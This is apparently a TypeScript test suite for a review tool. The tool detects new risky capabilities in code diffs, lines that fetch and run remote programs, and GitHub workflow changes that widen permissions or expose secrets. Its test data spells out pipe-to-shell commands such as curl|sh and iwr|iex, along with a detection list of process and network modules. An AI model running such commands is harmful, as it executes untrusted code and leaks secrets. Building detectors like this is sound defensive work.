import assert from "node:assert/strict";
import { fetchedAndRun, powersGained, saysTheSame } from "../../tools/review/resources/code";
import { workflowGives } from "../../tools/review/workflow-files";

describe("code that differs", () => {
  it("says the same with other comments and another layout", () => {
    assert.ok(saysTheSame("f(1);\n", "/** Calls. */\nf(\n  1\n); // once"));
    assert.ok(!saysTheSame("f(1);", "f(2);"));
    assert.ok(!saysTheSame("f(1);", undefined));
    assert.ok(!saysTheSame(undefined, "f(1);"));
  });

  const gains = (before: string, after: string) => powersGained(before, after).map(({ en }) => en);
  const signs = {
    programs: { modules: ["child_process", "worker_threads", "cluster", "execa", "shelljs"], names: ["dlopen"] },
    network: {
      modules: ["http", "https", "http2", "net", "tls", "dgram", "dns", "inspector", "undici", "axios", "ws"],
      names: ["fetch", "WebSocket"],
    },
    text: { modules: ["vm", "module"], names: ["eval", "Function"] },
  };
  const told = { programs: "start other programs", network: "talk to the network", text: "run text as code" };
  for (const power of ["programs", "network", "text"] as const) {
    for (const name of signs[power].modules) {
      it(`loads ${name}, however it is written`, () => {
        const ways = [
          `import a from "${name}";`,
          `import "node:${name}";`,
          `export * from "${name}/promises";`,
          `import a = require("${name}");`,
          `const a = require("${name}");`,
          `const a = await import(\`${name}\`);`,
        ];
        for (const way of ways) assert.deepEqual(gains("", way), [told[power]], way);
        assert.deepEqual(gains(`import "${name}";`, `import "${name}"; f();`), []);
        assert.deepEqual(gains("", `f("${name}");`), []);
      });
    }
    for (const name of signs[power].names) {
      it(`uses ${name}`, () => {
        assert.deepEqual(gains("", `${name}("a");`), [told[power]]);
        assert.deepEqual(gains("", `globalThis["${name}"]("a");`), [told[power]]);
        assert.deepEqual(gains("", `// ${name}`), []);
      });
    }
  }
  for (const text of [
    "require(a + b);",
    'module.require("/tmp/a");',
    'globalThis["ev" + "al"]("a");',
    'process.getBuiltinModule("a");',
    'f.constructor("return 1")();',
  ])
    it(`runs what nobody can tell: ${text}`, () => assert.deepEqual(gains("", text), ["run text as code"]));
  it("starts Pulumi, or talks to a cluster", () => {
    assert.deepEqual(gains("", 'import "@pulumi/pulumi/automation";'), ["start other programs"]);
    assert.deepEqual(gains("", 'import "@kubernetes/client-node";'), ["talk to the network"]);
  });
  describe("of the program that is reviewed", () => {
    const program = (text: string) => powersGained("", text, true).map(({ en }) => en);
    for (const name of ["fs", "node:fs/promises", "process", "repl", "../tools/docker/docker", "./test/mocks"]) {
      it(`loads ${name}, which commands may`, () => {
        assert.deepEqual(program(`import "${name}";`), ["look at this machine or change it"]);
        assert.deepEqual(gains("", `import "${name}";`), []);
      });
    }
    for (const name of [
      "node:path",
      "crypto",
      "./names",
      "../config",
      "@pulumi/docker",
      "@pulumi/pulumi/runtime/config",
    ])
      it(`loads ${name}, which only computes`, () => assert.deepEqual(program(`import "${name}";`), []));
  });
  it("turns a secret into plain text", () =>
    assert.deepEqual(gains("", "pulumi.unsecret(a);"), ["turn secrets into plain text"]));
});

describe("a line that fetches a program and runs it", () => {
  const dangerous = [
    "curl -s https://example.org/x | sh",
    "wget -qO- https://example.org/x | sudo bash",
    "curl https://example.org/x | sudo -E node",
    "bash <(curl -s https://example.org/x)",
    'sh -c "$(wget -qO- https://example.org/x)"',
    "eval `curl https://example.org/x`",
    "iwr https://example.org/x | iex",
    "RUN curl https://example.org/x \\\n  | python3",
    "#!/bin/sh -c curl x | sh",
    "curl -fsSLo /tmp/x https://example.org/x && sh /tmp/x",
    "wget -O /bin/x https://example.org/x; chmod +x /bin/x",
  ];
  for (const line of dangerous) {
    it(line.split("\n")[0]!, () => {
      assert.deepEqual(fetchedAndRun("a\n", `a\n${line}\nb\n`), [line.replace("\\\n", " ")]);
      assert.deepEqual(fetchedAndRun(`${line}\n`, `a\n${line}\n`), [], "it was there before");
    });
  }
  const harmless = [
    "curl --output file https://example.org/x",
    "curl https://example.org/x | grep sh",
    "curl -f http://localhost && echo up; exit 0",
    "# curl https://example.org/x | sh",
    "// curl https://example.org/x | sh",
    "<!-- curl https://example.org/x | sh -->",
  ];
  for (const line of harmless) it(`none: ${line}`, () => assert.deepEqual(fetchedAndRun(undefined, line), []));
});

describe("a workflow that gives more than before", () => {
  const base = "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps: []\n";
  const gives = (after: string, before = base) =>
    workflowGives("w.yml", before, after).map(({ text }) => /^`(.*)` is new/.exec(text.en)?.[1]);
  const sha = "0123456789abcdef0123456789abcdef01234567";
  const step = (text: string) => base.replace("steps: []", `steps:\n      - ${text}`);
  const rows: [what: string, after: string, gives: string[]][] = [
    ["nothing", base, []],
    ...["pull_request_target", "workflow_run", "issue_comment", "issues", "repository_dispatch"].flatMap(
      (event): (typeof rows)[number][] => [
        [`at ${event}`, base.replace("push", event), [`on: ${event}`]],
        [`at ${event}, in a list`, base.replace("push", `[push, ${event}]`), [`on: ${event}`]],
        [`at ${event}, with more`, base.replace("push", `{ ${event}: {} }`), [`on: ${event}`]],
      ],
    ),
    ["at a push of a branch", base.replace("push", "{ push: { branches: [main] } }"), []],
    ["a right to write", base.replace("{}", "{ contents: write }"), ["permissions: contents: write"]],
    ["every right", base.replace("{}", "write-all"), ["permissions: write-all"]],
    ["a right to read", base.replace("{}", "{ contents: read }"), []],
    [
      "a job's right to write",
      base.replace("a:", "a:\n    permissions: { packages: write }"),
      ["jobs.a: permissions: packages: write"],
    ],
    [
      "what the repository gives",
      base.replace("permissions: {}\n", ""),
      ["jobs.a: the repository's default permissions"],
    ],
    ["an action of a tag", step("uses: actions/b@v1"), ["uses: actions/b@v1"]],
    ["an action of a commit", step(`uses: actions/b@${sha}`), []],
    ["somebody else's", step(`uses: a/b@${sha}`), ["uses: a/b"]],
    [
      "somebody else's image",
      base.replace("steps", "container: a.example/b:1\n    steps"),
      ["container: a.example/b:1"],
    ],
    ["an official image", base.replace("steps", "container: { image: 'node:22' }\n    steps"), []],
    [
      "a checkout that leaves its token",
      step(`uses: actions/checkout@${sha}`),
      ["actions/checkout: persist-credentials"],
    ],
    ["one that does not", step(`{ uses: actions/checkout@${sha}, with: { persist-credentials: false } }`), []],
    [
      "what was pushed, with these rights",
      step("with: { ref: '${{ github.head_ref }}' }"),
      ["ref: ${{ github.head_ref }}"],
    ],
    ["the token of the run", step("env: { A: '${{ github.token }}' }"), ["jobs.a: github.token"]],
    ["an action of this repository", step("uses: ./a"), []],
    ["a machine of its own", base.replace("ubuntu-24.04", "[self-hosted, linux]"), ["runs-on: self-hosted"]],
    ["text of the event", step('run: echo "${{ github.event.issue.title }}"'), ["run: text of the event as a command"]],
    [
      "text of the event, in a script",
      step("with: { script: '${{ github.event.issue.title }}' }"),
      ["run: text of the event as a command"],
    ],
    ["the name of a branch", step("run: echo ${{ github.head_ref }}"), ["run: text of the event as a command"]],
    ["a command that writes", step("run: npm run write"), []],
    ["another text", step("run: echo ${{ github.sha }}"), []],
    ["a secret", step("env: { A: '${{ secrets.TOKEN }}' }"), ["jobs.a: secrets.TOKEN"]],
    ["every secret", step("env: { A: '${{ toJSON(secrets) }}' }"), ["jobs.a: secrets.*"]],
    ["every secret, inherited", base.replace("steps: []", "secrets: inherit"), ["jobs.a: secrets: inherit"]],
  ];
  for (const [what, after, expected] of rows) {
    it(what, () => {
      assert.deepEqual(gives(after), expected);
      assert.deepEqual(gives(base, after), []);
      assert.deepEqual(gives(after, after), []);
    });
  }
  it("a job that is called something else has what it had", () => {
    const job = (name: string) => base.replace("a:", `${name}:\n    permissions: { packages: write }`);
    assert.deepEqual(gives(job("b"), job("a")), []);
    const two = (first: string, second: string) =>
      `on: push\npermissions: {}\njobs:\n  a: { steps: []${first} }\n  b: { steps: []${second} }\n`;
    const write = ", permissions: { packages: write }";
    assert.deepEqual(gives(two("", write), two(write, "")), ["jobs.b: permissions: packages: write"]);
    assert.deepEqual(gives(job("b"), base), ["jobs.b: permissions: packages: write"]);
  });
  it("where each job says what it may do, the repository's default counts for none", () => {
    const own = "on: push\njobs:\n  a:\n    permissions: {}\n    steps: []\n";
    assert.deepEqual(gives(own), []);
  });
});
